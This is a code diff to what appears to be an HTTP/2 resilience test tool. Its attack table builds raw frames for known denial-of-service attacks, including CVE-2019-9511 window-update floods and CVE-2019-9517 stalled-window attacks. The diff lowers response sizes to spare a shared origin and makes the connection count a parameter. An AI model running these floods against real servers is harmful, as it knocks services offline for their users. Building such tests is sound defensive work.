@@ -54,7 +54,8 @@ def _named(name: bytes, value: bytes) -> bytes:
 
 HOST = _field(1, b"www-0.example.com")
 ASK = _GET + _HTTP + _field(4, b"/get") + HOST
-LONG = _GET + _HTTP + _field(4, b"/get/bytes/10485760") + HOST
+# More than a window and a read: 1,600 of 10 MiB kept the origin, which is everybody's, busy for seconds.
+LONG = _GET + _HTTP + _field(4, b"/get/bytes/262144") + HOST
 SEND = _POST + _HTTP + _field(4, b"/get") + HOST
 
 
@@ -113,13 +114,13 @@ ATTACKS = {
     "updates": Attack("windows opened byte by byte (CVE-2019-9511)", frame(UPDATE, 0, 0, b"\0\0\0\x01") * 20_000),
     "streams": Attack("more streams than announced", _each(STREAMS, lambda n: frame(HEADERS, END_HEADERS, n, SEND))),
     "stall": Attack(
-        "100 answers of 10 MiB each, windows shut (CVE-2019-9517)",
+        "100 answers of 256 KiB each, windows shut (CVE-2019-9517)",
         _each(100, lambda n: frame(HEADERS, 5, n, LONG)),
         holds=True,
         settings=NO_WINDOW,
     ),
     "unread": Attack(
-        "100 answers of 10 MiB each, windows open, nothing read",
+        "100 answers of 256 KiB each, windows open, nothing read",
         frame(UPDATE, 0, 0, struct.pack(">I", 1 << 30)) + _each(100, lambda n: frame(HEADERS, 5, n, LONG)),
         holds=True,
         settings=struct.pack(">HI", 4, 1 << 30),
@@ -164,7 +165,9 @@ class Link:
             return False
 
 
-def attack_for(attack: Attack, port: int, seconds: float) -> dict[str, int]:
+def attack_for(
+    attack: Attack, port: int, seconds: float, connections: int = CONNECTIONS
+) -> dict[str, int]:
     """Go on until the time is over."""
     made = sent = 0
     links: dict[int, Link] = {}
@@ -187,7 +190,7 @@ def attack_for(attack: Attack, port: int, seconds: float) -> dict[str, int]:
                     and now - link.begun > REST_SECONDS
                 ):
                     drop(link)
-            while len(links) < CONNECTIONS:
+            while len(links) < connections:
                 try:
                     link = Link(attack, port)
                 except OSError as error:
